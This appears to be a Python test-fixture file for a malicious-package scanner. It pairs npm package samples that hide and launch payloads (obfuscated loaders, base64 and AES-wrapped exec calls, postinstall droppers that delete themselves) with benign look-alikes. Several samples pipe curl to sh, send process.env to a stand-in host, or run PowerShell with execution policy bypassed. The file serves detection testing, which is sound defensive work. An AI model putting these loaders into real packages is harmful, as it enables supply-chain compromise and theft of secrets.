"""How a payload is hidden and started: encoded text, tables of strings, build files, droppers that clean up."""

# ruff: noqa: E501 - a file of a package reads as it is written

from tests.attacks.case import Attack

LOADERS = (
    Attack("binding.gyp: a command in the list of sources", "FETCH-001", "install", {
        "binding.gyp": """
            { "targets": [ { "target_name": "demo", "sources": [ "<!(curl -fsSL https://example.invalid/s.sh | sh)" ] } ] }
        """,
    }, {
        "binding.gyp": """
            { "targets": [ { "target_name": "demo", "sources": [ "demo.cc" ], "include_dirs": [ "<!(node -p \\"require('node-addon-api').include\\")" ] } ] }
        """,
    }),
    Attack("binding.gyp: a file of the package is run while the build is configured", "EXFIL-001", "install", {
        "package.json": '"main": "index.js"',
        "binding.gyp": """
            { "targets": [ { "target_name": "demo", "type": "none", "sources": [ "<!(node setup.js > /dev/null 2>&1 && echo stub.c)" ] } ] }
        """,
        "setup.js": """
            const https = require("https");
            const request = https.request({ hostname: "example.invalid", path: "/b", method: "POST" });
            request.end(JSON.stringify(process.env));
        """,
        "index.js": "module.exports = 1;",
    }, {
        "setup.js": "console.log(process.versions.modules);",
    }),
    Attack("eval of atob", "ENC-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            module.exports = (left, right) => left + right;
            eval(atob("«b64:require('child_process').exec('curl -s https://example.invalid/a | sh')»"));
        """,
    }, {
        "index.js": """
            module.exports = (left, right) => left + right;
            module.exports.icon = atob("«b64:<svg xmlns='http://www.w3.org/2000/svg'></svg>»");
        """,
    }),
    Attack("a table of strings that is rotated until it fits", "FETCH-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            (function (_0x1a2b, _0x3c4d) {
              const _0x5e6f = _0x7a8b, _0x9c0d = _0x1a2b();
              while (!![]) {
                try {
                  const _0xe1f2 = parseInt(_0x5e6f(0x10a)) / 0x1 + parseInt(_0x5e6f(0x10b)) / 0x2;
                  if (_0xe1f2 === _0x3c4d) break; else _0x9c0d["push"](_0x9c0d["shift"]());
                } catch (_0xa3b4) { _0x9c0d["push"](_0x9c0d["shift"]()); }
              }
            })(_0x4e5f, 0x7);
            function _0x7a8b(_0x1122, _0x3344) { const _0x5566 = _0x4e5f(); return (_0x7a8b = function (_0x7788) { return _0x5566[_0x7788 - 0x10a]; }), _0x7a8b(_0x1122, _0x3344); }
            function _0x4e5f() { const _0x99aa = ["child_process", "exec", "curl -s https://example.invalid/a | sh", "3abc", "8def"]; return (_0x4e5f = function () { return _0x99aa; }), _0x4e5f(); }
            const _0xbbcc = _0x7a8b;
            require(_0xbbcc(0x10c))[_0xbbcc(0x10d)](_0xbbcc(0x10e));
        """,
    }, {
        "index.js": """
            (function (table, wanted) { while (table[0] !== wanted) table.push(table.shift()); })(names(), "zero");
            function names() { const list = ["two", "three", "zero", "one"]; return (names = function () { return list; }), names(); }
            module.exports = (at) => names()[at];
        """,
    }),
    Attack("axios, its planted dependency: a dropper for each system that removes itself", "FETCH-001", "install", {
        "package.json": '"scripts": {"postinstall": "node setup.js"}',
        "setup.js": """
            const stq = (text) => Buffer.from(text.split("").reverse().join("").replace(/_/g, "="), "base64").toString();
            const fs = require(stq("«reversed:fs»")), os = require(stq("«reversed:os»"));
            const { exec, execSync } = require(stq("«reversed:child_process»"));
            const from = "http://stage.example.invalid:8000/1";
            if (os.platform() === "linux") {
              execSync(`curl -o /tmp/ld.py -d product2 -s ${from} && nohup python3 /tmp/ld.py ${from} > /dev/null 2>&1 &`);
            } else if (os.platform() === "win32") {
              const script = os.tmpdir() + "\\\\stage.vbs";
              fs.writeFileSync(script, `CreateObject("WScript.Shell").Run "cmd.exe /c curl -s -X POST -d product1 ${from} > %temp%\\\\a.ps1 & powershell -w hidden -ep bypass -file %temp%\\\\a.ps1", 0`);
              exec(`cscript "${script}" //nologo`);
            }
            fs.unlink(__filename, () => {});
            fs.unlink("package.json", () => fs.rename("package.md", "package.json", () => {}));
        """,
    }, {
        "setup.js": """
            const fs = require("fs"), os = require("os");
            if (os.platform() === "linux") fs.writeFileSync("platform.txt", os.release());
            else if (os.platform() === "win32") fs.writeFileSync("platform.txt", os.version());
        """,
    }),
    Attack("AES under a key that stands beside it", "ENC-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const crypto = require("crypto");
            const opened = crypto.createDecipheriv("aes-256-cbc", "0123456789abcdef0123456789abcdef", "fedcba9876543210");
            const text = opened.update("«aes:require('child_process').exec('curl -s https://example.invalid/a | sh')»", "hex", "utf8") + opened.final("utf8");
            new Function("require", text)(require);
        """,
    }, {
        "index.js": """
            const crypto = require("crypto");
            exports.open = (key, iv, sealed) => {
              const opened = crypto.createDecipheriv("aes-256-cbc", key, iv);
              return JSON.parse(opened.update(sealed, "hex", "utf8") + opened.final("utf8"));
            };
        """,
    }),
    Attack("codes of characters made into a command", "STR-002", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const say = (...codes) => String.fromCharCode(...codes);
            const cp = require(say(«codes:child_process»));
            cp[say(«codes:exec»)](say(«codes:curl -s https://example.invalid/a | sh»));
        """,
    }, {
        "index.js": """
            const say = (...codes) => String.fromCharCode(...codes);
            module.exports = { name: say(«codes:demo»), letters: (from, to) => Array.from({ length: to - from }, (_, at) => say(from + at)) };
        """,
    }),
    Attack("a dropper that carries its program", "DROP-001", "install", {
        "package.json": '"scripts": {"postinstall": "node ./lib/prepare.js"}',
        "lib/prepare.js": """
            const fs = require("fs"), os = require("os"), path = require("path");
            const { spawn } = require("child_process");
            const target = path.join(os.tmpdir(), "svc.js");
            fs.writeFileSync(target, Buffer.from("«b64:require('https').get('https://example.invalid/a', (a) => a.on('data', (d) => eval(d.toString())));»", "base64"));
            spawn(process.execPath, [target], { detached: true, stdio: "ignore" }).unref();
        """,
    }, {
        "lib/prepare.js": """
            const fs = require("fs"), path = require("path");
            const target = path.join(__dirname, "demo.svg");
            fs.writeFileSync(target, Buffer.from("«b64:<svg xmlns='http://www.w3.org/2000/svg'></svg>»", "base64"));
        """,
    }),
    Attack("the constructor of a constructor runs text", "ENC-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            const text = Buffer.from("«hex:process.mainModule.require('child_process').exec('id')»", "hex").toString();
            [].filter.constructor(text)();
        """,
    }, {
        "index.js": """
            const text = Buffer.from("«hex:process»", "hex").toString();
            module.exports = [text].filter((one) => one.constructor === String);
        """,
    }),
    Attack("react2shell scanners: a stage behind tiny addresses, run by vm", "FETCH-001", "import", {
        "package.json": '"main": "index.mjs", "type": "module"',
        "index.mjs": """
            import { runInNewContext } from "node:vm";
            import { get } from "node:https";
            get("https://paste.example.invalid/raw/made-up", (answer) => {
              let text = "";
              answer.on("data", (part) => { text += part; });
              answer.on("end", () => runInNewContext(text, { process, globalThis }));
            });
            export const level = 1;
        """,
    }, {
        "index.mjs": """
            import { runInNewContext } from "node:vm";
            export const level = runInNewContext("1 + 1", {});
        """,
    }),
    Attack("TanStack: a loader beside the entry, behind a dependency of git", "ENC-001", "import", {
        "package.json": '"main": "index.js"',
        "index.js": """
            require("./router_init.js");
            module.exports = { route: (path) => path };
        """,
        "router_init.js": """
            const zlib = require("zlib");
            const key = Buffer.from("key");
            const sealed = Buffer.from("«hex:made up, neither compressed nor a program»", "hex").map((byte, at) => byte ^ key[at % key.length]);
            try { module._compile(zlib.brotliDecompressSync(sealed).toString(), "router_init.js"); } catch (error) {}
        """,
    }, {
        "router_init.js": """
            const zlib = require("zlib");
            exports.read = (sealed) => JSON.parse(zlib.brotliDecompressSync(sealed).toString());
        """,
    }),
)  # fmt: skip
